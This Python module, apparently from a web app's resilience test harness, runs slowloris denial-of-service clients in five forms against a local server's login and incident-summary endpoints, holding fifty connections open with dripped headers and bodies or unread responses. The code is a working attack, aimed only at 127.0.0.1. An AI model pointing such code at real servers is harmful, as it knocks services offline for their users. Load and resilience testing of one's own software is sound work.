"""Slow clients (slowloris) of five sorts: each holds a connection open and sends or takes as little as it can."""

from __future__ import annotations

import asyncio
from contextlib import suppress

from bench.attack.target import CSRF, Target

EACH = 10
SECONDS = 8.0
DRIP_SECONDS = 0.5


async def slow_clients(target: Target) -> str:
    """Ten each of slow headers, slow short bodies, slow long bodies, slow multipart and slow readers."""
    sorts = (_headers(target), _body(2_000), _body(300_000), _multipart(), _reader(target))
    clients = [_drip(target, start) for start in sorts for _ in range(EACH)]
    await asyncio.gather(*clients)
    return f"{len(clients)} connections for {SECONDS:.0f} s"


def _headers(target: Target) -> bytes:
    return f"GET /accounts/login/ HTTP/1.1\r\nHost: 127.0.0.1:{target.port}\r\nX-Slow: ".encode()


def _body(length: int) -> bytes:
    return _post("application/x-www-form-urlencoded", length) + b"login="


def _multipart() -> bytes:
    part = b'--edge\r\nContent-Disposition: form-data; name="login"; filename="a"\r\n\r\n'
    return _post("multipart/form-data; boundary=edge", 300_000) + part


def _post(media_type: str, length: int) -> bytes:
    return (
        f"POST /accounts/login/ HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: followthrough_csrf={CSRF}\r\n"
        f"X-CSRFToken: {CSRF}\r\nContent-Type: {media_type}\r\nContent-Length: {length}\r\n\r\n"
    ).encode()


def _reader(target: Target) -> bytes:
    """Asks for many long answers on one connection and reads none of them."""
    one = f"GET /incidents/INC-{target.large}/summary/ HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: {target.cookie()}\r\n\r\n"
    return one.encode() * 6


async def _drip(target: Target, start: bytes) -> None:
    with suppress(OSError):
        _, writer = await asyncio.open_connection("127.0.0.1", target.port, limit=1024)
        writer.write(start)
        for _ in range(int(SECONDS / DRIP_SECONDS)):
            await asyncio.sleep(DRIP_SECONDS)
            if start.startswith(b"POST") or b"X-Slow" in start:
                writer.write(b"x")
        writer.close()
